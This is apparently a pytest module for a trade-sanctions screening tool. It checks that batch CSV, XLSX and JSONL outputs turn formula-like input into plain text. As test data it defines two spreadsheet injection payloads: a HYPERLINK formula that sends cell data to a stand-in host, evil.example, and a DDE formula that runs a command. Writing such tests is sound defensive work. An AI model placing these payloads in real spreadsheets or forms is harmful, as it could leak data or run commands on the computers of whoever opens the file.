"""Every spreadsheet the batch commands write: formula text from the input and from list data
arrives as text (a leading ``'``), XLSX cells are never formulas, scores stay numbers."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from tradeguard.batch import screen_batch
from tradeguard.items.batch import classify_rows, write_results
from tradeguard.lists.model import Entity, Name
from tradeguard.screening import Screener
from tradeguard.screening.batch import screen_file
from tradeguard.shipments.audit import AuditResult, DeclarationVerdict, write_audit
from tradeguard.tabular.write import FORMULA_STARTS

LINK = '=HYPERLINK("http://evil.example/?q="&A1,"Ryonbong Trading")'
CMD = "=cmd|' /C calc'!A0"
# Batch rows a user (or an attacker who fills a supplier form) may send.
HOSTILE_ROWS = [
    {"id": "-1", "name": LINK},
    {"id": "@2", "name": CMD},
    {"id": "3", "name": "+81 KOREA RYONBONG GENERAL CORPORATION"},
    {"id": "+4", "name": "\tKorea Ryonbong General Corporation"},
]
# A list entry whose names came from formula cells (a workbook read without cached values).
LISTED = Entity(
    id="custom:EVIL-1",
    list="custom",
    source_id=CMD,
    schema="Organization",
    names=[Name(LINK), Name(CMD)],
)


@pytest.fixture(scope="module")
def hostile_screener(entities: list[Entity]) -> Screener:
    return Screener.from_entities([*entities, LISTED])


def _write_input(path: Path) -> Path:
    with path.open("w", newline="", encoding="utf-8") as handle:
        writer = csv.DictWriter(handle, fieldnames=["id", "name"])
        writer.writeheader()
        writer.writerows(HOSTILE_ROWS)
    return path


def _csv_cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.reader(handle))


def _check_csv(path: Path) -> list[list[str]]:
    rows = _csv_cells(path)
    assert rows and all(not c.startswith(FORMULA_STARTS) for row in rows for c in row)
    return rows


def _check_xlsx(path: Path) -> list[tuple[Any, ...]]:
    sheet = load_workbook(path).worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row]
    assert cells and all(c.data_type != "f" for c in cells)
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert all(not t.startswith(FORMULA_STARTS) for t in texts)
    return [tuple(c.value for c in row) for row in sheet.iter_rows()]


def _matched(rows: list[Any], header: list[str]) -> set[Any]:
    at = header.index("matched_name")
    return {row[at] for row in rows}


@pytest.mark.parametrize("runner", ["screen-batch", "cluster-runner"])
@pytest.mark.parametrize("fmt", [".csv", ".xlsx"])
def test_screen_batch_outputs_hold_no_formula(
    hostile_screener: Screener, tmp_path: Path, runner: str, fmt: str
) -> None:
    source = _write_input(tmp_path / "parties.csv")
    out = tmp_path / f"matches{fmt}"
    if runner == "screen-batch":
        screen_file(hostile_screener, source, out)
    else:  # the partitioned runner (in-process), gathered into one file
        screen_batch(source, out, screener=hostile_screener)
    rows: list[Any] = _check_csv(out) if fmt == ".csv" else _check_xlsx(out)
    header, body = list(rows[0]), rows[1:]
    assert {row[0] for row in body} == {"'-1", "'@2", "3", "'+4"}
    # the listed entry's formula names and source id came back as text
    assert {"'" + LINK, "'" + CMD} <= _matched(body, header)
    assert "'" + CMD in {row[header.index("source_id")] for row in body}
    scores = [row[header.index("score")] for row in body if row[header.index("score")]]
    if fmt == ".xlsx":
        assert scores and all(isinstance(s, int | float) for s in scores)
    else:
        assert scores and all(0 < float(s) <= 1 for s in scores)


def test_jsonl_and_parquet_keep_the_text(hostile_screener: Screener, tmp_path: Path) -> None:
    source = _write_input(tmp_path / "parties.csv")
    screen_file(hostile_screener, source, tmp_path / "m.jsonl")
    rows = [json.loads(line) for line in (tmp_path / "m.jsonl").read_text().splitlines()]
    assert {r["id"] for r in rows} == {"-1", "@2", "3", "+4"}
    assert LINK in {r["matched_name"] for r in rows}


def test_audit_declarations_csv(tmp_path: Path) -> None:
    verdict = DeclarationVerdict(
        CMD, "PROHIBITED", "KP", 1, True, ["UN_EMBARGO"], ["-1C350"], "@ " + LINK
    )
    write_audit(AuditResult(declarations=[verdict]), tmp_path / "v.csv")
    header, row = _check_csv(tmp_path / "v.csv")
    assert row[header.index("declaration_id")] == "'" + CMD
    assert row[header.index("entries")] == "'-1C350"
    assert row[header.index("items")] == "1"


@pytest.mark.parametrize("fmt", [".csv", ".xlsx"])
def test_classify_batch_outputs(tmp_path: Path, fmt: str) -> None:
    records = classify_rows(
        [{"id": "=1+1", "description": "hydrogen fluoride", "cas": "7664-39-3"}], "in.csv"
    )
    write_results(records, tmp_path / f"c{fmt}")
    rows: list[Any] = (
        _check_csv(tmp_path / f"c{fmt}") if fmt == ".csv" else _check_xlsx(tmp_path / f"c{fmt}")
    )
    assert rows[1][list(rows[0]).index("id")] == "'=1+1"
